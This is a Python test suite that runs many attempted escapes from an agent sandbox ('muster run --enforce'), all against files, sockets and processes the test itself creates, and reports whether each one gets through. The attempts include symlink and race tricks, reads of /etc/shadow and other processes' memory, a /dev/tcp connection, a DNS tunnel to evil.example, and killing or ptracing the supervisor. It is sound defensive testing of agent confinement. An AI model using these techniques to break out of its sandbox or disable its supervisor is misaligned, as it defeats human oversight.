"""Attempts to do what a mandate does not allow, made by an agent under `muster run --enforce`: harmless, against files,
sockets and processes that the test made. Each is a function whose name is the attempt; it returns something true only if
the effect came about. Run in a network namespace of its own. One line of output for each: name, `through` or `stopped`, why."""
import ctypes, errno, os, signal, socket, struct, subprocess, sys, threading, time

T = os.environ["T"]
WORK, OUT = T + "/work", T + "/outside"
SECRET = OUT + "/secret.txt"
VICTIM = int(os.environ["VICTIM"])
SUPERVISOR = os.getppid()
OK, BAD = 8443, 9443
GOOD_IP, EVIL_IP = "203.0.113.10", "203.0.113.11"
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
ATTEMPTS = []


def attempt(kind):
    def take(f):
        ATTEMPTS.append((kind, f))
        return f
    return take


def call(number, *args):
    args = [ctypes.c_char_p(a) if isinstance(a, bytes) else ctypes.c_void_p(a) if a is None else ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    result = libc.syscall(ctypes.c_long(number), *args)
    if result < 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return result


def got_secret(text):
    return "s3cret-of-the-test" in (text if isinstance(text, str) else text.decode(errors="replace"))


def read(path):
    with open(path, "rb") as f:
        return got_secret(f.read())


def out(*argv, **kw):
    return subprocess.run(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=20, **kw).stdout


def wrote(path):
    with open(path, "w") as f:
        f.write("x")
    return True


def connect(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as s:
        s.settimeout(3)
        s.connect(address)
        s.send(b"hello")
        return got_secret(s.recv(100))


# --- files: reading -------------------------------------------------------------------------------------------------
@attempt("read")
def plain_read(): return read(SECRET)
@attempt("read")
def dotdot(): return read(WORK + "/../outside/secret.txt")
@attempt("read")
def symlink(): os.symlink(SECRET, WORK + "/l1"); return read(WORK + "/l1")
@attempt("read")
def symlink_to_folder(): os.symlink(OUT, WORK + "/l2"); return read(WORK + "/l2/secret.txt")
@attempt("read")
def chain_of_symlinks():
    os.symlink(SECRET, WORK + "/c0")
    for n in range(20): os.symlink(f"c{n}", f"{WORK}/c{n + 1}")
    return read(WORK + "/c20")
@attempt("read")
def hard_link(): os.link(SECRET, WORK + "/h1"); return read(WORK + "/h1")
@attempt("read")
def hard_link_of_denied(): os.link(WORK + "/denied.txt", WORK + "/h2"); return read(WORK + "/h2")
@attempt("read")
def rename_in(): os.rename(SECRET, WORK + "/r1"); return read(WORK + "/r1")
@attempt("read")
def exchange_in():
    open(WORK + "/x1", "w").close()
    call(316, -100, SECRET.encode(), -100, (WORK + "/x1").encode(), 2)
    return read(WORK + "/x1")
@attempt("read")
def denied_within_scope(): return read(WORK + "/denied.txt")
@attempt("read")
def denied_renamed(): os.rename(WORK + "/denied.txt", WORK + "/r2"); return read(WORK + "/r2")
@attempt("read")
def denied_by_symlink(): os.symlink("denied.txt", WORK + "/l3"); return read(WORK + "/l3")
@attempt("read")
def denied_by_folder_moved():
    os.rename(WORK, T + "/work2"); return read(T + "/work2/denied.txt")
@attempt("read")
def proc_self_root(): return read("/proc/self/root" + SECRET)
@attempt("read")
def proc_self_cwd(): os.chdir(WORK); return read("/proc/self/cwd/../outside/secret.txt")
@attempt("read")
def proc_root_of_init(): return read("/proc/1/root" + SECRET)
@attempt("read")
def proc_root_of_supervisor(): return read(f"/proc/{SUPERVISOR}/root" + SECRET)
@attempt("read")
def fd_of_victim():
    return any(read(f"/proc/{VICTIM}/fd/{n}") for n in range(3, 6))
@attempt("read")
def memory_of_victim():
    with open(f"/proc/{VICTIM}/mem", "rb") as f: return True
@attempt("read")
def environment_of_victim(): return b"=" in open(f"/proc/{VICTIM}/environ", "rb").read()
@attempt("read")
def open_by_path_only():
    fd = os.open(SECRET, os.O_PATH); return read(f"/proc/self/fd/{fd}")
@attempt("read")
def openat2_from_folder():
    fd = os.open(WORK, os.O_PATH)
    how = struct.pack("QQQ", os.O_RDONLY, 0, 0)
    got = call(437, fd, b"../outside/secret.txt", ctypes.create_string_buffer(how), 24)
    return got_secret(os.read(got, 100))
@attempt("read")
def open_by_handle():
    buffer = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128)); mount = ctypes.c_int()
    call(303, -100, SECRET.encode(), buffer, ctypes.byref(mount), 0)
    got = call(304, os.open(WORK, os.O_RDONLY), buffer, 0)
    return got_secret(os.read(got, 100))
@attempt("read")
def by_cat(): return got_secret(out("cat", SECRET))
@attempt("read")
def by_shell(): return got_secret(out("sh", "-c", f"read x < {SECRET}; echo $x"))
@attempt("read")
def by_perl(): return got_secret(out("perl", "-e", f"open F,'{SECRET}'; print <F>"))
@attempt("read")
def by_tar(): return got_secret(out("tar", "cf", "-", SECRET))
@attempt("read")
def path_of_5000_bytes():
    return read(WORK + "/." * 2400 + "/../outside/secret.txt")
@attempt("read")
def path_of_4000_bytes():
    return read(WORK + "/." * 1900 + "/../outside/secret.txt")
@attempt("read")
def watched_by_inotify_then_read():
    libc.inotify_add_watch(libc.inotify_init(), SECRET.encode(), 0xfff); return read(SECRET)
@attempt("read")
def shadow(): return len(open("/etc/shadow").read()) > 0
@attempt("read")
def raw_disk():
    return any(len(open("/dev/" + n, "rb").read(512)) for n in os.listdir("/sys/block") if os.path.exists("/dev/" + n))
@attempt("read")
def kernel_memory(): return len(open("/proc/kcore", "rb").read(64)) > 0
@attempt("read")
def race_of_symlink_and_open():
    """Swaps a link between the check and the use, for a while."""
    good, link, stop = WORK + "/good.txt", WORK + "/race", []
    with open(good, "w") as f: f.write("good")
    def swap():
        while not stop:
            for to in (SECRET, good):
                try:
                    os.symlink(to, link + ".n"); os.rename(link + ".n", link)
                except OSError: pass
    t = threading.Thread(target=swap); t.start()
    end, won = time.time() + 1.0, False
    while time.time() < end and not won:
        try: won = read(link)
        except OSError: pass
    stop.append(1); t.join()
    return won
@attempt("read")
def race_of_the_path_in_memory():
    """Another thread rewrites the string while the call waits."""
    good = (WORK + "/denied.tx_").encode(); bad = (WORK + "/denied.txt").encode()
    open(good, "w").write("good")
    buffer, stop = ctypes.create_string_buffer(good), []
    def swap():
        while not stop:
            buffer.value = bad; buffer.value = good
    t = threading.Thread(target=swap); t.start()
    end, won = time.time() + 1.0, False
    while time.time() < end and not won:
        fd = libc.open(buffer, os.O_RDONLY)
        if fd >= 0:
            won = got_secret(os.read(fd, 100)); os.close(fd)
    stop.append(1); t.join()
    return won


# --- files: writing -------------------------------------------------------------------------------------------------
@attempt("write")
def plain_write(): return wrote(OUT + "/new.txt")
@attempt("write")
def append(): open(OUT + "/victim.txt", "a").write("x"); return True
@attempt("write")
def truncate_by_path(): os.truncate(OUT + "/victim.txt", 0); return True
@attempt("write")
def unlink(): os.unlink(OUT + "/victim.txt"); return True
@attempt("write")
def make_folder(): os.mkdir(OUT + "/d"); return True
@attempt("write")
def move_out(): wrote(WORK + "/m"); os.rename(WORK + "/m", OUT + "/m"); return True
@attempt("write")
def link_out(): wrote(WORK + "/m2"); os.link(WORK + "/m2", OUT + "/m2"); return True
@attempt("write")
def symlink_out(): os.symlink("x", OUT + "/s"); return True
@attempt("write")
def write_through_symlink(): os.symlink(OUT + "/t.txt", WORK + "/l5"); return wrote(WORK + "/l5")
@attempt("write")
def hook_of_git(): return wrote(WORK + "/.git/hooks/pre-commit")
@attempt("write")
def hook_of_git_moved():
    os.rename(WORK + "/.git/hooks", WORK + "/.git/h"); return wrote(WORK + "/.git/h/pre-commit")
@attempt("write")
def hook_of_git_replaced():
    os.mkdir(WORK + "/hk"); wrote(WORK + "/hk/pre-commit"); os.rename(WORK + "/hk", WORK + "/.git/hooks"); return True
@attempt("write")
def hooks_folder_above_moved():
    os.rename(WORK + "/.git", WORK + "/g"); return wrote(WORK + "/g/hooks/pre-commit")
@attempt("write")
def hooks_of_the_product(): return wrote(os.environ["HOME"] + "/.claude/settings.json")
@attempt("write")
def shell_start_up(): open(os.environ["HOME"] + "/.bashrc", "a").write("x"); return True
@attempt("write")
def mode(): os.chmod(SECRET, 0o777); return True
@attempt("write")
def mode_by_open_file(): os.fchmod(os.open("/etc/hosts", os.O_RDONLY), 0o644); return True
@attempt("write")
def owner(): os.chown(SECRET, 1, 1); return True
@attempt("write")
def times(): os.utime(SECRET, (1, 1)); return True
@attempt("write")
def extended_attribute(): os.setxattr(SECRET, "user.x", b"x"); return True
@attempt("write")
def setuid_of_own_file():
    subprocess.run(["cp", "/bin/true", WORK + "/su"]); os.chmod(WORK + "/su", 0o4755); return True
@attempt("write")
def device(): os.mknod(WORK + "/dev", 0o600 | 0o020000, os.makedev(1, 1)); return True
@attempt("write")
def asked_and_nobody_answers(): return wrote(WORK + "/ask/x")
@attempt("write")
def core_pattern(): open("/proc/sys/kernel/core_pattern", "w").write("core"); return True
@attempt("write")
def leave_the_cgroup():
    roots = [l.split()[1] for l in open("/proc/mounts") if " cgroup2 " in l]
    open(roots[0] + "/cgroup.procs", "w").write(str(os.getpid())); return True


# --- programs -------------------------------------------------------------------------------------------------------
def ran(*argv): return b"i-ran" in out(*argv)

@attempt("execute")
def program_outside(): return ran(OUT + "/program")
@attempt("execute")
def program_denied(): return subprocess.run(["/usr/bin/id"], stdout=subprocess.DEVNULL).returncode == 0
@attempt("execute")
def program_denied_by_link(): os.symlink("/usr/bin/id", WORK + "/bin/i"); return ran_id(WORK + "/bin/i")
def ran_id(path): return b"uid=" in out(path)
@attempt("execute")
def program_denied_by_hard_link(): os.link("/usr/bin/id", WORK + "/bin/j"); return ran_id(WORK + "/bin/j")
@attempt("execute")
def program_denied_by_loader(): return b"uid=" in out("/lib64/ld-linux-x86-64.so.2", "/usr/bin/id")
@attempt("execute")
def loader_with_a_program_outside(): return b"i-ran" in out("/lib64/ld-linux-x86-64.so.2", OUT + "/elf")
@attempt("execute")
def script_outside_by_interpreter(): return ran("sh", OUT + "/program")
@attempt("execute")
def own_script_with_denied_interpreter():
    with open(WORK + "/bin/s", "w") as f: f.write("#!/usr/bin/id\n")
    os.chmod(WORK + "/bin/s", 0o755); return ran_id(WORK + "/bin/s")
@attempt("execute")
def written_outside_the_programs():
    subprocess.run(["cp", "/bin/echo", WORK + "/e"]); return ran(WORK + "/e", "i-ran")
@attempt("execute")
def memfd():
    fd = os.memfd_create("m", 0); os.write(fd, open("/bin/echo", "rb").read())
    pid = os.fork()
    if pid == 0:
        try: os.execve(fd, ["echo", "i-ran"], {})
        finally: os._exit(1)
    return os.waitpid(pid, 0)[1] == 0
@attempt("execute")
def memfd_by_proc():
    fd = os.memfd_create("m", 0x10); os.write(fd, open("/bin/echo", "rb").read()); return ran(f"/proc/{os.getpid()}/fd/{fd}", "i-ran")
@attempt("execute")
def execveat_of_open_file():
    fd = os.open("/usr/bin/id", os.O_PATH)
    pid = os.fork()
    if pid == 0:
        try:
            argv = (ctypes.c_char_p * 2)(b"id", None); call(322, fd, b"", argv, None, 0x1000)
        finally: os._exit(1)
    return os.waitpid(pid, 0)[1] == 0
@attempt("execute")
def shared_memory_file():
    with open("/dev/shm/escape", "wb") as f: f.write(open("/bin/echo", "rb").read())
    os.chmod("/dev/shm/escape", 0o755); return ran("/dev/shm/escape", "i-ran")
@attempt("execute")
def preloaded_library_reads():
    """A library in another program is under the same rules."""
    return got_secret(out("cat", SECRET, env={**os.environ, "LD_PRELOAD": WORK + "/x.so"}))
@attempt("execute")
def setuid_keeps_nothing_new():
    status = out("sh", "-c", "grep NoNewPrivs /proc/self/status").decode(); return "1" not in status
@attempt("execute")
def race_of_the_program_in_memory():
    """Another thread rewrites the path of the program while the call waits."""
    good, bad = b"/bin/true\0\0\0\0\0\0", b"/usr/bin/id"
    won = False
    for _ in range(60):
        buffer, stop = ctypes.create_string_buffer(good, 32), []
        argv = (ctypes.c_char_p * 2)(b"id", None)
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.dup2(w, 1)
            def swap():
                while True: buffer.value = bad; buffer.value = good.rstrip(b"\0")
            threading.Thread(target=swap, daemon=True).start()
            for _ in range(3): libc.execve(buffer, argv, None)
            os._exit(1)
        os.close(w); won = won or b"uid=" in os.read(r, 100); os.close(r); os.waitpid(pid, 0)
    return won
@attempt("execute")
def renamed_to_a_trusted_name():
    libc.prctl(15, b"muster", 0, 0, 0); return read(SECRET)


# --- network --------------------------------------------------------------------------------------------------------
@attempt("connect")
def other_port(): return connect(socket.AF_INET, ("127.0.0.1", BAD))
@attempt("connect")
def other_host(): return connect(socket.AF_INET, (EVIL_IP, OK))
@attempt("connect")
def name_not_in_the_mandate():
    socket.getaddrinfo("evil.example", OK); return True
@attempt("connect")
def address_after_its_name_was_refused():
    try: socket.getaddrinfo("evil.example", OK)
    except OSError: pass
    return connect(socket.AF_INET, (EVIL_IP, OK))
@attempt("connect")
def address_of_an_allowed_name_other_port():
    socket.getaddrinfo("allowed.example", OK); return connect(socket.AF_INET, (GOOD_IP, BAD))
@attempt("connect")
def rebound_name():
    address = socket.getaddrinfo("rebind.example", OK, socket.AF_INET)[0][4]
    return connect(socket.AF_INET, (address[0], OK + 1))
@attempt("connect")
def ipv6(): return connect(socket.AF_INET6, ("::1", BAD))
@attempt("connect")
def ipv4_in_ipv6(): return connect(socket.AF_INET6, ("::ffff:127.0.0.1", BAD))
@attempt("connect")
def address_of_nobody(): return connect(socket.AF_INET, ("0.0.0.0", BAD))
@attempt("connect")
def udp_connected(): return connect(socket.AF_INET, ("127.0.0.1", BAD), socket.SOCK_DGRAM)
@attempt("connect")
def udp_unconnected():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2); s.sendto(b"x", ("127.0.0.1", BAD)); return got_secret(s.recv(100))
@attempt("connect")
def udp_by_message():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2); s.sendmsg([b"x"], [], 0, ("127.0.0.1", BAD)); return got_secret(s.recv(100))
@attempt("connect")
def udp_to_another_machine():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2); s.sendto(b"x", ("198.51.100.7", 4433)); return True
@attempt("connect")
def udp_untied():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, 25, b"eth0\0"); return True
@attempt("connect")
def tunnel_in_names():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2); s.connect(("203.0.113.53", 53))
        s.send(b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\x06secret\x04evil\x07example\0\0\1\0\1")
        return s.recv(512)[3] & 15 == 0
@attempt("connect")
def fast_open():
    with socket.socket() as s:
        s.settimeout(2); s.sendto(b"x", 0x20000000, ("127.0.0.1", BAD)); return got_secret(s.recv(100))
@attempt("connect")
def multipath():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as s:
        s.settimeout(2); s.connect(("127.0.0.1", BAD)); return got_secret(s.recv(100))
@attempt("connect")
def raw_socket(): socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); return True
@attempt("connect")
def packet_socket(): socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3); return True
@attempt("connect")
def vsock(): socket.socket(40, socket.SOCK_STREAM); return True
@attempt("connect")
def netlink_of_audit(): socket.socket(16, socket.SOCK_RAW, 9); return True
@attempt("connect")
def by_bash(): return got_secret(out("bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{BAD}; echo x >&3; head -c 50 <&3"))
@attempt("connect")
def race_of_the_address_in_memory():
    """Another thread rewrites the address while the call waits."""
    good = struct.pack("!HH4s8x", 0x0200, OK, bytes([127, 0, 0, 1])); bad = struct.pack("!HH4s8x", 0x0200, BAD, bytes([127, 0, 0, 1]))
    buffer, stop, won = ctypes.create_string_buffer(good, 16), [], False
    def swap():
        while not stop: ctypes.memmove(buffer, bad, 16); ctypes.memmove(buffer, good, 16)
    t = threading.Thread(target=swap); t.start()
    end = time.time() + 1.0
    while time.time() < end and not won:
        with socket.socket() as s:
            s.settimeout(1)
            if libc.connect(s.fileno(), buffer, 16) == 0 or True:
                try: won = s.getpeername()[1] == BAD
                except OSError: pass
    stop.append(1); t.join()
    return won
def unix(path): return connect(socket.AF_UNIX, path)
@attempt("connect")
def socket_of_docker(): return unix(OUT + "/docker.sock")
@attempt("connect")
def socket_of_systemd(): return unix(OUT + "/private")
@attempt("connect")
def socket_of_tmux(): return unix(OUT + "/tmux")
@attempt("connect")
def socket_of_ssh_agent(): return unix(OUT + "/agent.sock")
@attempt("connect")
def socket_by_symlink(): os.symlink(OUT + "/docker.sock", WORK + "/l9"); return unix(WORK + "/l9")
@attempt("connect")
def socket_by_relative_path(): os.chdir(WORK); return unix("../outside/docker.sock")
@attempt("connect")
def socket_without_a_file(): return unix("\0" + os.environ["ABSTRACT"])
@attempt("connect")
def socket_of_the_journal():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b"x", OUT + "/log"); return True
@attempt("connect")
def datagram_pair_to_a_path():
    a, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b"x", OUT + "/log"); return True


# --- the kernel, other processes, Muster itself ---------------------------------------------------------------------
@attempt("privileged")
def bind_mount(): call(165, OUT.encode(), WORK.encode(), b"", 4096, None); return True
@attempt("privileged")
def new_mount_api(): call(428, -100, OUT.encode(), 1); return True
@attempt("privileged")
def user_namespace(): call(272, 0x10000000); return True
@attempt("privileged")
def user_namespace_by_clone():
    pid = call(56, 0x10000000 | 17, 0, 0, 0, 0)
    if pid == 0: os._exit(0)
    return True
@attempt("privileged")
def clone3(): call(435, ctypes.create_string_buffer(struct.pack("Q", 0x10000000) + bytes(80)), 88); return True
@attempt("privileged")
def enter_namespace_of_init(): call(308, os.open("/proc/1/ns/net", os.O_RDONLY), 0); return True
@attempt("privileged")
def change_root(): os.chroot(WORK); return True
@attempt("privileged")
def ptrace_of_a_sibling(): call(101, 16, VICTIM, 0, 0); return True
@attempt("privileged")
def ptrace_of_the_supervisor(): call(101, 16, SUPERVISOR, 0, 0); return True
@attempt("privileged")
def memory_of_the_supervisor(): open(f"/proc/{SUPERVISOR}/mem", "rb"); return True
@attempt("privileged")
def write_memory_of_the_supervisor():
    b = ctypes.create_string_buffer(8); iov = struct.pack("QQ", ctypes.addressof(b), 8)
    call(311, SUPERVISOR, ctypes.create_string_buffer(iov), 1, ctypes.create_string_buffer(iov), 1, 0); return True
@attempt("privileged")
def files_of_the_supervisor():
    call(438, os.pidfd_open(SUPERVISOR), 3, 0); return True
@attempt("privileged")
def kill_the_supervisor(): os.kill(SUPERVISOR, signal.SIGKILL); return True
@attempt("privileged")
def stop_the_supervisor(): os.kill(SUPERVISOR, signal.SIGSTOP); return True
@attempt("privileged")
def kill_the_supervisor_by_handle(): signal.pidfd_send_signal(os.pidfd_open(SUPERVISOR), signal.SIGKILL); return True
@attempt("privileged")
def kill_the_supervisor_by_thread(): call(234, SUPERVISOR, SUPERVISOR, 9); return True
@attempt("privileged")
def kill_the_victim(): os.kill(VICTIM, signal.SIGTERM); return True
@attempt("privileged")
def kill_everybody():
    pid = os.fork()
    if pid == 0:
        try: os.kill(-1, signal.SIGUSR2)
        except OSError: os._exit(1)
        os._exit(0)
    return os.waitpid(pid, 0)[1] == 0
@attempt("privileged")
def limits_of_the_supervisor(): call(302, SUPERVISOR, 7, ctypes.create_string_buffer(struct.pack("QQ", 0, 0)), None); return True
@attempt("privileged")
def starve_the_supervisor(): os.sched_setscheduler(SUPERVISOR, os.SCHED_IDLE, os.sched_param(0)); return True
@attempt("privileged")
def load_bpf(): call(321, 0, ctypes.create_string_buffer(128), 128); return True
@attempt("privileged")
def load_module(): call(313, os.open("/bin/true", os.O_RDONLY), b"", 0); return True
@attempt("privileged")
def io_uring(): call(425, 4, ctypes.create_string_buffer(128)); return True
@attempt("privileged")
def userfaultfd(): call(323, 1); return True
@attempt("privileged")
def perf_events(): call(298, ctypes.create_string_buffer(128), 0, -1, -1, 0); return True
@attempt("privileged")
def kernel_keyring(): call(250, 0, -3, 1); return True
@attempt("privileged")
def another_user(): os.setuid(1); return True
@attempt("privileged")
def get_capabilities_back():
    status = [l for l in open("/proc/self/status") if l.startswith("CapBnd")][0]
    return int(status.split()[1], 16) & (1 << 21)
@attempt("privileged")
def type_into_the_terminal():
    m, s = os.openpty(); fcntl_ioctl(s, 0x5412, b"x"); return True
def fcntl_ioctl(fd, command, data):
    import fcntl; fcntl.ioctl(fd, command, data)
@attempt("privileged")
def type_into_the_terminal_by_a_long_number():
    m, s = os.openpty(); call(16, s, 0x5412 | 1 << 32, b"x"); return True
@attempt("privileged")
def thirty_two_bit_calls():
    """`int 0x80`: getpid, by the other table."""
    import mmap
    code = bytes.fromhex("b814000000cd80c3")
    m = mmap.mmap(-1, 4096, prot=7); m.write(code)
    f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
    return f() > 0
@attempt("privileged")
def calls_of_the_x32_table(): call(39 | 0x40000000); return True
@attempt("privileged")
def a_call_that_nobody_knows(): 
    try: call(500)
    except OSError as e: return e.errno != errno.ENOSYS
    return True
@attempt("privileged")
def own_filter_over_it():
    """An own filter that allows all changes nothing."""
    prog = struct.pack("HBBI", 6, 0, 0, 0x7fff0000); b = ctypes.create_string_buffer(prog)
    fprog = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", 1, ctypes.addressof(b)))
    call(317, 1, 0, fprog); return read(SECRET)
@attempt("privileged")
def own_listener_over_it():
    prog = struct.pack("HBBI", 6, 0, 0, 0x7fc00000); b = ctypes.create_string_buffer(prog)
    fprog = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", 1, ctypes.addressof(b)))
    return call(317, 1, 8, fprog) >= 0
@attempt("privileged")
def after_the_agent_left_its_group():
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork(): os._exit(0)
        try: ok = read(SECRET)
        except OSError: ok = False
        open(WORK + "/orphan", "w").write(str(int(bool(ok)))); os._exit(0)
    os.waitpid(pid, 0)
    for _ in range(50):
        try: return open(WORK + "/orphan").read() == "1"
        except OSError: time.sleep(0.02)
    return False


def honest():
    """What it may do, works."""
    wrote(WORK + "/honest.txt"); os.chmod(WORK + "/honest.txt", 0o600); os.rename(WORK + "/honest.txt", WORK + "/honest2.txt")
    os.unlink(WORK + "/honest2.txt"); os.makedirs(WORK + "/a/b"); os.symlink("a", WORK + "/hl"); os.utime(WORK + "/a")
    assert b"i-ran" in out("sh", "-c", "echo i-ran | cat")
    assert ran(WORK + "/bin/own")
    assert connect(socket.AF_INET, ("127.0.0.1", OK)) and connect(socket.AF_INET6, ("::1", OK))
    name = socket.getaddrinfo("allowed.example", OK, socket.AF_INET, socket.SOCK_STREAM)[0][4]
    assert name[0] == GOOD_IP and connect(socket.AF_INET, name)
    fd = os.memfd_create("m", 0); os.write(fd, b"x")
    t = threading.Thread(target=lambda: None); t.start(); t.join()
    a, b = socket.socketpair(); a.send(b"x"); assert b.recv(1) == b"x"
    p = subprocess.Popen(["sleep", "60"]); p.kill(); assert p.wait() == -9
    open("/dev/null", "w").write("x"); open("/proc/self/status").read()
    assert unix(WORK + "/own.sock")


def main():
    chosen = sys.argv[1:]
    # First the honest work, while the folders are as they were.
    for kind, f in [("honest", honest)] + ATTEMPTS:
        if chosen and f.__name__ not in chosen: continue
        os.chdir("/")
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            signal.alarm(30); signal.signal(signal.SIGUSR2, signal.SIG_IGN)
            try:
                done = f(); text = "through" if done or f is honest else "stopped\tno effect"
            except BaseException as e:
                text = "stopped\t" + (errno.errorcode.get(e.errno, str(e.errno)) if isinstance(e, OSError) and e.errno else type(e).__name__ + " " + str(e).replace("\n", " "))
            os.write(w, text.encode()); os._exit(0)
        os.close(w)
        text = os.read(r, 4000).decode(); os.close(r); os.waitpid(pid, 0)
        print(f"{kind}\t{f.__name__}\t{text or 'stopped' + chr(9) + 'ended'}", flush=True)


main()
